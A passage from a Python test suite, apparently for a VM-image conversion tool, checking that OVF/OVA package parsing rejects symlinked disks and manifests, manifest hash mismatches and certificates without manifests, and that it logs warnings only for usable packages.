    src = package.open_ovf(str(d / 'vm.ovf'), LIMITS)
    try:
        assert src.container == 'ovf'
        assert src.disks[0].name == str(d / 'disk1.vhd')
        assert read_disk(src, tmp_path) == content
    finally:
        src.close()
    # A referenced file that is a link is not a file of the directory.
    os.rename(d / 'disk1.vhd', tmp_path / 'elsewhere.vhd')
    os.symlink(tmp_path / 'elsewhere.vhd', d / 'disk1.vhd')
    (d / 'vm.mf').unlink()
    with pytest.raises(exception.InvalidArchive,
                       match='missing from the directory'):
        package.open_ovf(str(d / 'vm.ovf'), LIMITS)
    (d / 'disk1.vhd').unlink()
    (d / 'vm.mf').write_bytes(b'SHA1(vm.ovf)= %s\n' % (b'0' * 40))
    with pytest.raises(exception.InvalidArchive,
                       match='manifest mismatch for vm.ovf'):
        package.open_ovf(str(d / 'vm.ovf'), LIMITS)


def test_directory_manifest_link_refused(tmp_path):
    img, _ = fixed_vhd(64 << 10, 6)
    (tmp_path / 'vm.ovf').write_bytes(simple_ovf())
    (tmp_path / 'disk1.vhd').write_bytes(img)
    (tmp_path / 'real.mf').write_bytes(manifest([('disk1.vhd', img)]))
    os.symlink('real.mf', tmp_path / 'vm.mf')
    with pytest.raises(exception.InvalidArchive,
                       match='vm.mf: the manifest is not a regular file'):
        package.open_ovf(str(tmp_path / 'vm.ovf'), LIMITS)


def test_warnings_only_when_usable(tmp_path, caplog):
    img, _ = fixed_vhd(64 << 10, 7)
    caplog.set_level(logging.WARNING, logger='any2kvm_os')
    # Refused: the notes gathered so far (capacity) are not logged.
    _refusal(tmp_path, [('vm.ovf', simple_ovf(capacity=1)),
                        ('disk1.vhd', img[:-1])],
             'disk1.vhd')
    assert caplog.records == []
    path = write_tar(tmp_path / 'ok.ova', [
        ('vm.ovf', simple_ovf(capacity=1)), ('disk1.vhd', img)])
    package.open_ova(path, LIMITS).close()
    text = caplog.text
    assert 'ovf:capacity of disk vmdisk1 is 1024 bytes' in text


def test_cert_without_manifest_refused(tmp_path):
    img, _ = fixed_vhd(64 << 10, 7)
    path = write_tar(tmp_path / 'c.ova', [
        ('vm.ovf', simple_ovf()), ('disk1.vhd', img), ('vm.cert', b'x')])
    with pytest.raises(exception.InvalidArchive,
                       match='vm.cert: a signature without a manifest'):
        package.open_ova(path, LIMITS)


def test_not_ova_tar(tmp_path):
    path = write_tar(tmp_path / 'x.tar', [('0.vhd', b'x')])
    assert not package.is_ova_tar(path, LIMITS)
    (tmp_path / 'y').write_bytes(b'junk' * 200)
    assert not package.is_ova_tar(str(tmp_path / 'y'), LIMITS)
